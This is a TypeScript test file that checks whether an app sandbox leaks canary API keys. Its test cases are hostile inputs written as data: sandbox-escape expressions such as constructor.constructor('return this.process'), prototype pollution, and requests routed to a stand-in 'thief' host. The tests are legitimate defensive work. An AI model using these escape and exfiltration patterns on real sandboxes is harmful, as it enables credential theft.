/** Thefts from inside: the app looks for a key in its own process, or speaks to the gate in other words than it should. */
import { execFileSync } from 'node:child_process';
import { describe, expect, it, test } from 'vitest';
import type { AskedRequest } from '../../../protocol/sandbox.ts';
import { Gate } from '../../../runtime/gate/gate.ts';
import { LocalHost } from '../../../runtime/localHost/localHost.ts';
import { TraceBuilder } from '../../../runtime/runner/traceBuilder.ts';
import { sandboxPids } from '../support/children.ts';
import { FakeDebugger } from '../support/fakeDebugger.ts';
import { foundInMemory } from '../support/memory.ts';
import { leaksIn, personalCanary, projectCanary } from './canaries.ts';
import { type Answer, appFiles, own, thief, useWorld } from './world.ts';

const attempt = useWorld();
const randomParts = [personalCanary.slice(4), projectCanary.slice(4)];

/** Repeats the keys in many ways, so that all of them pass the sandbox if they are not taken out. */
const echo: Answer = ({ headers, url }, response) => {
  const text = `${headers.authorization} ${url}`;
  const lists = { 'x-key': text, 'set-cookie': `a=${text}` };
  response.writeHead(200, lists).end(JSON.stringify([text, Buffer.from(text).toString('base64')]));
};

const busy = `await posthog.capture('x')
  await look(posthog.api.get('/x'))
  await look(posthog.api.post('/y', { data: { a: 1 } }))
  await look(posthog.api.get('/z', { host: thief }))
  await look(posthog.api.get('/x', { host: 'http://[' }))`;

describe('in the process of the app', () => {
  it.each([
    ['process', 'typeof process === "undefined" ? "none" : process.env'],
    ['the global object', 'Object.getOwnPropertyNames(globalThis).map((name) => String(globalThis[name]))'],
    ['meta, all of it', 'JSON.stringify(meta) + Object.keys(meta)'],
    ['the code of our helpers', 'String(posthog.api.get) + String(posthog.capture) + String(fetch)'],
    [
      'what hangs on our helpers',
      'Reflect.ownKeys(posthog.api.get).concat(Reflect.ownKeys(fetch)).map(String)',
    ],
    ['the stack of an error', 'new Error("x").stack'],
    [
      'the frames of a stack',
      `await (async () => {
        let text = ''
        Error.prepareStackTrace = (error, frames) => frames.map((frame) => String(frame.getFunction()) + frame.getThis())
        text += new Error('x').stack
        try { await posthog.api.get('/x', { host: 'http://[' }) } catch (error) { text += error.stack }
        Error.prepareStackTrace = undefined
        return text
      })()`,
    ],
    [
      'require',
      'await (async () => { try { return require("process").env } catch (error) { return error } })()',
    ],
    ['the constructor of a constructor', 'posthog.constructor.constructor("return this.process")()'],
    [
      'the way over Function of a promise',
      '(await fetch(own)).constructor.constructor("return this")().process',
    ],
  ])('%s', async (_, expression) => {
    const outcome = await attempt({ app: `${busy}; await look(${expression})`, host: echo });
    expect(outcome.host.length).toBeGreaterThanOrEqual(3);
  });

  it('globals that the app has replaced see no key pass', async () => {
    await attempt({
      app: `const text = []
        const keep = (value) => { try { text.push(typeof value === 'string' ? value : Object.values(value).join()) } catch {} }
        const { parse, stringify } = JSON
        JSON.parse = function (...given) { keep(given[0]); const value = parse(...given); keep(value); return value }
        JSON.stringify = function (...given) { keep(given[0]); const value = stringify(...given); keep(value); return value }
        const { then } = Promise.prototype
        Promise.prototype.then = function (...given) { keep(this); return then.apply(this, given) }
        const { push } = Array.prototype
        for (const name of ['host', 'headers', 'authorization', 'personalApiKey', 'personalKey', 'origin', 'value'])
          Object.defineProperty(Object.prototype, name, { configurable: true, set(value) { keep(value) }, get() { return undefined } })
        ${busy}
        for (const name of ['host', 'headers', 'authorization', 'personalApiKey', 'personalKey', 'origin', 'value'])
          delete Object.prototype[name]
        Promise.prototype.then = then
        JSON.parse = parse
        JSON.stringify = stringify
        await look(text.join(' '))`,
      host: echo,
      options: () => ({}),
    });
  });

  it('prototypes that the app has filled turn no request to the thief', async () => {
    const outcome = await attempt({
      app: `Object.prototype.host = thief
        Object.prototype.personalApiKey = 'mine'
        Object.prototype.location = thief
        await look(posthog.api.get('/x'))
        delete Object.prototype.host
        delete Object.prototype.personalApiKey
        delete Object.prototype.location
        await look('done')`,
      options: () => ({}),
    });
    for (const { headers } of outcome.thief) expect(headers.authorization).not.toContain(personalCanary);
  });

  it('arguments and environment', async () => {
    let seen = '';
    const host: Answer = (request, response) => {
      const pids = sandboxPids();
      seen = execFileSync('ps', ['eww', '-o', 'args', '-p', pids.join(',')], { encoding: 'utf8' });
      echo(request, response);
    };
    await attempt({ app: busy, host });
    expect(seen).toContain('sandbox.js');
    expect(leaksIn(seen)).toEqual([]);
  });

  it('the heap, as a debugger sees it', async () => {
    let heap = '';
    let attached: FakeDebugger | undefined;
    const host: Answer = async (request, response) => {
      if (request.url.startsWith('/now')) heap = (await attached?.heap()) ?? '';
      echo(request, response);
    };

    await attempt({
      app: `const kept = 'the app has seen this'; ${busy}; await look(posthog.api.get('/now')); await look(kept)`,
      host,
      options: () => ({
        source: { files: appFiles },
        attachDebugger: async (address) => {
          attached = await FakeDebugger.attach(address);
          await attached.send('Runtime.runIfWaitingForDebugger');
          return true;
        },
      }),
    });
    expect(heap).toContain('the app has seen this');
    expect(leaksIn(heap)).toEqual([]);
  });
});

test.runIf(process.platform === 'linux')('the whole memory of the process of the app', async () => {
  const mark = 'a mark that the app has';
  let inSandboxes: readonly string[] = [];
  const host: Answer = (request, response) => {
    const look = async (): Promise<void> => {
      if (request.url.startsWith('/now')) {
        const lists = await Promise.all(
          sandboxPids().map((pid) => foundInMemory(pid, [...randomParts, mark])),
        );
        inSandboxes = lists.flat();
      }
      echo(request, response);
    };
    void look();
  };
  await attempt({ app: `meta.mark = '${mark}'; ${busy}; await look(posthog.api.get('/now'))`, host });
  // Afterwards: a look into a process as large as this one takes longer than a request may, on a busy computer.
  const here = await foundInMemory(process.pid, randomParts);
  // The search finds what there is to find: the mark there, and the keys in the process of the gate.
  expect(inSandboxes).toEqual([mark]);
  expect(here.toSorted()).toEqual(randomParts.toSorted());
});

describe('requests that only an app could make that broke out of its helpers', () => {
  const honest = {
    via: 'api',
    method: 'GET',
    path: 'x',
    host: null,
    query: [],
    body: null,
    headers: {},
    projectApiKey: null,
    personalApiKey: null,
  };
  it.each([
    ['a host that is an object', { ...honest, host: { href: own } }],
    ['a host that is a list', { ...honest, host: [own, thief] }],
    ['a path that is an object', { ...honest, path: {} }],
    ['a query that is none', { ...honest, query: 'token' }],
    ['headers that are a list', { ...honest, headers: [['authorization', 'x']] }],
    ['a key and where it goes', { ...honest, host: thief, personalKey: { origin: thief, value: null } }],
    ['no helper that there is', { ...honest, via: 'personalKey' }],
    ['nothing', {}],
    [
      'fetch with a key',
      { via: 'fetch', method: 'GET', url: own, headers: [], personalKey: { origin: own } },
    ],
    ['a capture to somewhere else', { via: 'capture', event: 'x', properties: { api_key: '' }, host: thief }],
    [
      'the names of a prototype',
      JSON.parse('{"__proto__": {"host": "https://thief.example"}, "via": "api"}') as object,
    ],
  ])('%s', async (_, asked) => {
    const gate = new Gate({
      access: {
        host: { kind: 'custom', api: 'https://nowhere.invalid', ingestion: 'https://nowhere.invalid' },
        projectId: null,
        projectApiKey: projectCanary,
        personalApiKeys: { [own]: personalCanary },
        mode: 'live',
      },
      profile: 'documented',
      localHost: new LocalHost(1, 'Project'),
      consent: () => Promise.resolve(false),
    });
    const trace = new TraceBuilder(gate);
    const cause = { entryPoint: 'onEvent', source: null };
    const answer = await gate.perform(asked as AskedRequest, cause, trace, AbortSignal.timeout(5_000));
    expect(leaksIn(JSON.stringify([answer, trace.finish('completed', null)]))).toEqual([]);
  });
});
